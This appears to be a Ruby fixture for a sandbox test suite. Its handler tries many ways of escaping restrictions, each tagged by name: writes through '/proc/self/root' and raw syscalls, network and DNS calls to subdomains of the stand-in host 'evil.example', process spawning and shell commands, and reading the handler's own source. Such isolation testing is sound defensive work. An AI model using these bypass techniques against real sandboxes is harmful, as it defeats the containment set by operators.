# Ruby's ways to files, hosts, programs and the handler's source, by the names of test_ruby.py.
require "fiddle"
require "fileutils"
require "open-uri"
require "open3"
require "resolv"
require "socket"
require "tempfile"

V4, V6, EVIL = "203.0.113.66", "2001:db8::66", "evil.example"
WHILE_LOADING = File.read(__FILE__).bytesize > 0

def native(name, path, flags)
  open = Fiddle::Function.new(Fiddle.dlopen(nil)[name], [Fiddle::TYPE_VOIDP, Fiddle::TYPE_INT, Fiddle::TYPE_INT], Fiddle::TYPE_INT)
  open.call(path, flags, 0o600).tap { |got| raise SystemCallError.new(name, Fiddle.last_error) if got.negative? } && true
end

def echo(socket, id)
  socket.write(id)
  socket.close_write
  socket.read == id
end

def ended(pid)
  Process.wait(pid)
  $?.exitstatus
end

# The path of an attempt's own file, its id, to what it comes to.
ATTEMPTS = {
  "files-write" => ->(own, _) { File.write(own, "data") },
  "files-append" => ->(own, _) { File.open(own, "a") { |file| file.puts("data") }.nil? },
  "files-dots" => ->(own, _) { File.write("/tmp/../tmp/#{File.basename(own)}", "data") },
  "files-proc-root" => ->(own, _) { File.write("/proc/self/root#{own}", "data") },
  "files-sysopen" => ->(own, _) { IO.sysopen(own, "w") > 0 },
  "files-native" => ->(own, _) { native("open", own, File::WRONLY | File::CREAT) },
  "files-syscall" => ->(own, _) { $VERBOSE = nil; syscall(2, own, File::WRONLY | File::CREAT, 0o600) > 0 },
  "files-copy-in" => ->(own, _) { FileUtils.cp("/etc/hosts", own).nil? },
  "files-mkdir" => ->(own, _) { Dir.mkdir(own) },
  "files-symlink" => ->(own, _) { File.symlink("/etc/hosts", own) },
  "files-unix-server" => ->(own, _) { UNIXServer.new(own).close },
  "files-tempfile" => ->(_, id) { Tempfile.create("#{id}.").path.start_with?("/tmp/") },
  "files-rename" => ->(own, _) { File.rename("#{own}.old", own) },
  "files-delete" => ->(own, _) { File.delete("#{own}.old") },
  "files-remove-tree" => ->(own, _) { FileUtils.rm_r("#{own}.folder").size },
  "files-read" => ->(*) { File.read("/tmp/there") },
  "files-foreach" => ->(*) { File.foreach("/tmp/there").to_a },
  "files-load" => ->(*) { RubyVM::InstructionSequence.compile_file("/tmp/there").path },
  "files-chmod" => ->(*) { File.chmod(0o600, "/tmp/there") },
  "files-utime" => ->(*) { File.utime(0, 0, "/tmp/there") },
  "files-children" => ->(*) { Dir.children("/tmp").include?("there") },
  "files-exists" => ->(*) { File.exist?("/tmp/there") },
  "network-tcp" => ->(_, id) { TCPSocket.open(V4, 7000) { |socket| echo(socket, id) } },
  "network-tcp6" => ->(_, id) { TCPSocket.open(V6, 7000) { |socket| echo(socket, id) } },
  "network-udp" => ->(_, id) { UDPSocket.new.send(id, 0, V4, 7000) == id.size },
  "network-connect" => ->(_, id) { Addrinfo.tcp(V4, 7000).connect { |socket| echo(socket, id) } },
  "network-http" => ->(_, id) { Net::HTTP.get_response(V4, "/#{id}").code },
  "network-http-name" => ->(_, id) { Net::HTTP.get_response("#{id}.#{EVIL}", "/").code },
  "network-open-uri" => ->(_, id) { URI.open("http://#{id}.#{EVIL}/").status.first },
  "network-dns" => ->(_, id) { Addrinfo.getaddrinfo("#{id}.#{EVIL}", 80, :INET).first.ip_address },
  "network-dns-by-hand" => ->(_, id) { Resolv::DNS.open { |dns| dns.getaddress("#{id}.#{EVIL}").to_s } },
  "network-allowed" => ->(_, id) { Net::HTTP.get_response(URI("https://api.partner.example/#{id}")).code },
  "network-loopback" => ->(*) { TCPServer.open("127.0.0.1", 0) { |here| TCPSocket.new("127.0.0.1", here.addr[1]).close } },
  "programs-backtick" => ->(*) { `/usr/bin/echo said` },
  "programs-system" => ->(*) { system("/usr/bin/true", exception: true) },
  "programs-spawn" => ->(*) { ended(spawn(["/usr/bin/true", "other"], in: :close)) },
  "programs-popen" => ->(*) { IO.popen(["/usr/bin/echo", "said"], &:read) },
  "programs-open3" => ->(*) { Open3.capture2("/usr/bin/cat", stdin_data: "said").first },
  "programs-empty-environment" => ->(*) { IO.popen({}, "/usr/bin/echo said", unsetenv_others: true, &:read) },
  "programs-shell" => ->(*) { `echo said; :` },
  "programs-exec" => ->(*) { ended(fork { exec("/usr/bin/true") }).zero? || raise(Errno::EACCES) },
  "programs-fork" => ->(*) { ended(fork { exit!(3) }) },
  "source-read" => ->(*) { File.read(__FILE__)[0] },
  "source-lines" => ->(*) { IO.readlines("app.rb").first[0] },
  "source-proc-root" => ->(*) { File.binread("/proc/self/root#{__FILE__}")[0] },
  "source-native" => ->(*) { native("open", __FILE__, File::RDONLY) },
  "source-compile" => ->(*) { RubyVM::InstructionSequence.compile_file(__FILE__).path },
  "source-while-loading" => ->(*) { WHILE_LOADING },
  "source-require" => ->(*) { require_relative("lazy") || LAZY },
  "source-backtrace" => ->(*) { caller_locations.first.path },
  "source-location" => ->(*) { method(:echo).source_location.first },
}.freeze

def tried(one)
  $stderr.write("attempt #{one["id"]}\n")
  {ok: ATTEMPTS.fetch(one["id"].delete_prefix("worker-")).call("/tmp/#{one["id"]}", one["id"])}
rescue SystemCallError, SocketError, Resolv::ResolvError, LoadError, Net::OpenTimeout => error
  {error: {code: error.class.name, message: error.message}}
end

def handler(event:, context:)
  event["attempts"].to_h { |one| [one["id"], one["worker"] ? Thread.new { tried(one) }.value : tried(one)] }
ensure
  $stderr.write("attempt\n")
end

module Functions
  class Orders
    def self.process(event:, context:) = {read: File.read(__FILE__)[0]}
  end
end
